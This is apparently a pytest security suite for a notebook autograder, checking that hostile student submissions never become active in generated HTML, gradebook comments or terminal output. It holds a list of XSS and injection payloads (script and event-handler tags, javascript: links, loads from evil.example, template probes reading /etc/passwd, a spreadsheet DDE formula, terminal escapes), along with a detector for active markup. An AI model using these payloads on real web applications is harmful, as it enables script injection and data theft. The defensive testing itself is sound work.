"""Nothing that a student can write becomes active in any page: ours, or nbgrader's of what we hand it."""

import json
import re
from base64 import b64encode
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import nbformat
import pytest
from arena import FULL, PATIENT, RIGHT, VICTIM
from bleach._vendor import html5lib
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from autograder.grading.classroom.nbgrader_plugin import harden
from autograder.grading.grade import grade_class
from autograder.grading.records.gradebook import Gradebook
from autograder.grading.submissions.names import id_problem

pytestmark = pytest.mark.sandbox
NAME = "01_lesson"

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script></style></title></textarea></pre></code><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
    "<svg><style>*{background:url(//evil.example)}</style><script href=data:,alert(1) /></svg>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=javascript:alert(1)></object>",
    "<form action=//evil.example><input name=score value=100><button formaction=javascript:alert(1)>OK</button></form>",
    "<details open ontoggle=alert(1)><a href=javascript:alert(1)>x</a><a href='java&#9;script:alert(1)'>y</a>",
    "[link](javascript:alert(1)) ![picture](javascript:alert(1)) <javascript:alert(1)> [x]: javascript:alert(1)",
    "![x](//evil.example/seen.png) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "{{ 7*'7' }} {% raw %}{% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "\\\\(\\\\href{javascript:alert(1)}{x}\\\\) $\\\\unicode{<img src=x onerror=alert(1)>}$",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\u202e\u2066\x1b[2J\x1b]0;title\x07\x00\ufeff\ud83d\ufffe",
)
ALL = "\n".join(PAYLOADS)
TEXT = repr(ALL)  # as Python

STUB = "def relu_backward(dout, z):\n    "
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
ANSWERS = {
    "in_the_code": f"PAYLOAD = {TEXT}\n'''\n{ALL.encode('utf-8', 'replace').decode()}\n'''\n{STUB}return z",
    "in_a_comment": "\n".join(f"# {line}" for line in ALL.splitlines()) + f"\n{STUB}return z",
    "printed": f"{STUB}print({TEXT})\n    return z",
    "warned": f"import warnings\n{STUB}warnings.warn({TEXT})\n    return z",
    "in_the_error": f"{STUB}raise ValueError({TEXT})",
    "as_the_error": f"{STUB}raise type({TEXT.replace(chr(92) + 'x00', '')}, (ValueError,), {{}})(1)",
    "as_the_type": f"{STUB}return type({TEXT.replace(chr(92) + 'x00', '')}, (), {{}})()",
    "as_the_keys": f"{STUB}return {{{TEXT}: 1}}",
    "as_the_value": f"{STUB}return {TEXT}",
    "in_the_signature": f"def relu_backward(dout, *, z={TEXT}):\n    return z",
    "in_a_broken_cell": f"def relu_backward(dout, z): return {ALL.splitlines()[0]}",
    "in_a_failing_cell": f"raise RuntimeError({TEXT})",
    "of_the_library": f"import course_lib\n{STUB}return getattr(course_lib, {TEXT})()",
    "in_names": f"{STUB}return z\nrelu_backward.__name__ = relu_backward.__qualname__ = {TEXT}",
}
FILES = (
    "<img src=x onerror=alert(1)>.ipynb",
    "'\"><svg onload=alert(1)>.ipynb",
    "[x](javascript:alert(1)).ipynb",
    '=HYPERLINK("evil").ipynb',
    "\x1b[2J\u202e.ipynb",
    "\udcff\udcfe.ipynb",
    "{{ 7*7 }}.ipynb",
)


def with_outputs(notebook):
    """Outputs, attachments and metadata that a page might take over."""
    bundle = {"text/html": ALL, "text/markdown": ALL, "image/svg+xml": SVG, "application/javascript": "alert(1)"}
    bundle |= {"image/png": b64encode(SVG.encode()).decode(), "image/jpeg": ALL, "text/latex": ALL, "text/plain": ALL}
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("display_data", bundle), nbformat.v4.new_output("stream", text=ALL)]
            cell.outputs.append(nbformat.v4.new_output("error", ename=ALL, evalue=ALL, traceback=[ALL]))
        cell.attachments = {f"{ALL}.svg": {"image/svg+xml": SVG, "image/png": f"{ALL}"}}
        cell.metadata["name"] = cell.metadata["tags"] = ALL
    notebook.metadata = {"title": ALL, "authors": [{"name": ALL}], "widgets": {"x": ALL}, "kernelspec": {"name": ALL}}


@pytest.fixture(scope="module")
def pages(arena, tmp_path_factory):
    """The folder with all that grading a hostile class has written."""
    top = tmp_path_factory.mktemp("class")

    def put(student: str, data: bytes, name: str = f"{NAME}.ipynb"):
        (top / "submitted" / student / NAME).mkdir(parents=True)
        (top / "submitted" / student / NAME / name).write_bytes(data)

    for student, answer in ANSWERS.items():
        put(student, arena.submission(why=ALL, **{VICTIM: answer}).data)
    put("in_the_outputs", arena.submission(change=with_outputs, why=ALL).data)
    for number, name in enumerate(FILES):
        put(f"file_{number}", arena.submission().data, name)
        put(name.removesuffix(".ipynb"), arena.submission().data)
    put("honest", arena.submission(why="An honest answer, with $a < b$ and **bold** text.").data)
    with ThreadPoolExecutor(1) as executor:  # two processes, as for a class, would take longer to start
        summary = grade_class(top / "submitted", arena.assignment, top / "out", limits=PATIENT, executor=executor)
    scores = {row.student: row.score for row in summary.students}
    assert scores["honest"] == scores["in_the_outputs"] == FULL
    assert all(scores[student] <= FULL - 1 for student in ANSWERS)
    return top / "out"


ACTIVE = "script iframe frame object embed applet link base form input button svg math template portal".split()


def active_content(page: str) -> list[str]:
    """Whatever in a page could act, load, send or restyle, as a browser would read it (WHATWG's algorithm)."""
    found, styles = [], 0
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        tag = str(element.tag).rpartition("}")[2].lower()
        styles += tag == "style"
        if tag in ACTIVE:
            found.append(tag)
        for name, value in element.attrib.items():
            name, value = str(name).rpartition("}")[2].lower(), "".join(value.split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "srcset", "background", "action", "ping"):
                found.append(f"{tag} {name}")
            if name == "src" and not value.startswith("data:image/"):
                found.append(f"{tag} src={value[:40]}")
            if name == "href" and not re.match(r"feedback/|#|https?://|mailto:|[\w.%-]+\.html", value):
                found.append(f"{tag} href={value[:40]}")
            if name == "style" and re.search(r"url\(|expression|@import|position:|behavior", value):
                found.append(f"{tag} style={value[:40]}")
            if tag == "meta" and name == "http-equiv" and value != "content-security-policy":
                found.append(f"meta {value}")
    return found + ["a second style sheet"] * (styles > 1)


def test_the_parser_finds_what_is_active():
    """Else the tests below could not fail."""
    for payload in PAYLOADS[:11]:
        assert active_content(f"<!DOCTYPE html><style></style><p>{payload}"), payload
    assert not active_content("<!DOCTYPE html><style></style><p>a < b</p><a href='#x'>x</a>")


def test_no_page_of_ours_is_active(pages):
    found = sorted(pages.rglob("*.html"))
    assert len(found) >= len(ANSWERS) + len(FILES) + 3  # names that are no ids have no page, but stand in the summary
    assert "cannot be a student&#39;s id" in (pages / f"{NAME}.summary.html").read_text(encoding="utf-8")
    for path in found:
        text = path.read_text(encoding="utf-8")
        assert not active_content(text), path
        assert not re.search(r"[\x00\x1b\u202e\u2066]", text), path
        assert "49" not in re.findall(r"\b49\b", text), path  # no template has computed 7 * 7
        assert "default-src 'none'" in text


def test_every_page_lies_where_it_should(pages):
    for path in pages.rglob("*"):
        assert path.resolve().is_relative_to(pages.resolve())
        assert id_problem(path.name) == "" or path.name.startswith("."), path
    assert {path.name for path in pages.iterdir() if path.is_dir()} <= {"feedback", "autograded"}


def test_nothing_that_nbgrader_shows_of_it_is_active(pages):
    """The graded notebooks, through nbconvert as formgrader and generate_feedback configure it."""
    config = Config()
    harden(config)
    exporter = HTMLExporter(config=config, template_name="basic")
    paths = sorted((pages / "autograded").rglob("*.ipynb"))
    assert len(paths) >= len(ANSWERS) + 2
    for path in paths:
        notebook = nbformat.reads(path.read_text(encoding="utf-8"), as_version=4)
        body, _ = exporter.from_notebook_node(notebook)
        assert not active_content(f"<!DOCTYPE html>{body}"), path


def test_comments_in_the_gradebook_are_our_own_words(pages):
    with Gradebook(f"sqlite:///{pages / 'gradebook.db'}") as gradebook:
        booked = gradebook.booked(NAME)
    comments = {text for entry in booked.values() for text in entry["comments"].values() if text}
    assert comments
    for text in comments:
        assert not active_content(f"<!DOCTYPE html>{text}")
        assert not any(line in text for line in ALL.splitlines())


def test_what_is_kept_for_reruns_and_for_other_programs_is_plain_data(pages):
    for path in pages.glob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    for path in pages.glob("*.jsonl"):
        assert all(json.loads(line) for line in path.read_text(encoding="utf-8").splitlines())


FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "＝1", "＋1", "－1", "＠x", "\t=1", " =1", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize("student", FORMULAS)
def test_a_student_who_is_a_formula_is_refused(student):
    assert "cannot be a student's id" in id_problem(student)


def test_the_command_prints_names_as_they_are(arena, tmp_path, monkeypatch):
    """Neither markup of the terminal's library in them, nor the terminal's own."""
    from click.testing import CliRunner

    from autograder.cli import main
    from autograder.files import ROOT

    real = "01_vanishing_gradients"
    data = (ROOT / "notebooks" / f"{real}.ipynb").read_bytes()
    for student, name in (("[red]", f"{real}.ipynb"), ("[bold]ada", "[bold]not closed\x1b[2J.ipynb")):
        (tmp_path / "submitted" / student / real).mkdir(parents=True)
        (tmp_path / "submitted" / student / real / name).write_bytes(data)
    done = CliRunner().invoke(main, ["grade", str(tmp_path / "submitted"), "--out", str(tmp_path / "out")])
    assert done.exit_code == 0, done.output
    assert "[red]" in done.output
    assert "[bold]ada" in done.output
    assert "[bold]not closed" in done.output
    assert "\x1b[2J" not in done.output


def test_right_answers_beside_hostile_words_keep_their_marks(arena):
    answers = {name: f"{source}\n# {ALL.splitlines()[0]}" for name, source in RIGHT.items()}
    assert arena.grade(arena.submission(why=ALL, **answers)).score == FULL
    assert Path(arena.places["PLACE"]).is_dir()
